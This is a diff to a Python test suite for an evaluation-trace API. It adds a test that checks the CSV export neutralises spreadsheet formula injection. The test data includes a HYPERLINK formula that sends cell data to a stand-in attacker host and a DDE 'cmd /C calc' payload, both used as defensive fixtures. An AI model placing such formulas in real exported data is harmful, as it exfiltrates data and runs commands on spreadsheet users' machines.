@@ -3,6 +3,7 @@ three versions (generated, hand-edited, one that errs) over 30 rated demo traces
 
 import csv
 import io
+import json
 
 import pytest
 
@@ -264,3 +265,38 @@ def test_stored_stats_follow_a_rating_change(world):
         assert any(after[e]["confusion"] != before[e]["confusion"] for e in after)
     finally:
         api.ok("PUT", f"/v1/eval-sets/{eval_set_id}/feedback/{trace_id}", {"rating": rating, "notes": f"n-{trace_id[-4:]}"})
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1)", "+1", "-1", "\t=1+1", "\r=1+1"]
+PLAIN = ["plain name", "1 + 1", "a=b", "it's @home", "2025-03-01"]
+REASON_CODE = '''def eval_formula_reasons(trace: dict) -> tuple[bool, str]:
+    return True, "=cmd|' /C calc'!A0"
+'''
+
+
+def test_csv_neutralises_formulas_from_trace_names_notes_and_reasons_and_keeps_plain_values(api):
+    names = FORMULAS + PLAIN
+    traces = [{"id": "x", "source": {"platform": "upload", "external_id": f"f{i}"}, "name": name,
+               "messages": [{"role": "user", "content": "hi"}]} for i, name in enumerate(names)]
+    job = api.ok("POST", "/v1/traces/upload?format=unified", raw="\n".join(json.dumps(t) for t in traces),
+                 headers={"Content-Type": "application/x-ndjson"}, status=202)
+    assert api.wait_ok(job["job_id"])["result"]["imported"] == len(names)
+    ids = {t["source"]["external_id"]: t["id"] for t in api.all_traces()}
+    es = api.ok("POST", "/v1/eval-sets", {"name": "formulas"}, status=201)["id"]
+    for i, name in enumerate(names):
+        api.ok("PUT", f"/v1/eval-sets/{es}/feedback/{ids[f'f{i}']}",
+               {"rating": "positive" if i % 2 else "negative", "notes": name})
+    generated = api.wait_ok(api.ok("POST", f"/v1/eval-sets/{es}/generate", {"generator": "offline"},
+                                   status=202)["job_id"])["result"]["eval_id"]
+    version = api.ok("POST", f"/v1/evals/{generated}/versions", {"code": REASON_CODE}, status=201)
+    api.wait_ok(version["scoring_job_id"])
+    response = api.get(f"/v1/eval-sets/{es}/matrix.csv?eval_ids={version['id']}")
+    assert response.status_code == 200
+    parsed = {row["trace_id"]: row for row in csv.DictReader(io.StringIO(response.body.decode(), newline=""))}
+    n = version["version"]
+    for i, name in enumerate(names):
+        row = parsed[ids[f"f{i}"]]
+        expected = "'" + name if name in FORMULAS else name
+        assert (row["trace_name"], row["notes"]) == (expected, expected)
+        assert row[f"v{n}_reason"] == "'=cmd|' /C calc'!A0" and row[f"v{n}_result"] == "pass"
+        assert int(row[f"v{n}_duration_ms"]) >= 0 and not row[f"v{n}_duration_ms"].startswith("'")
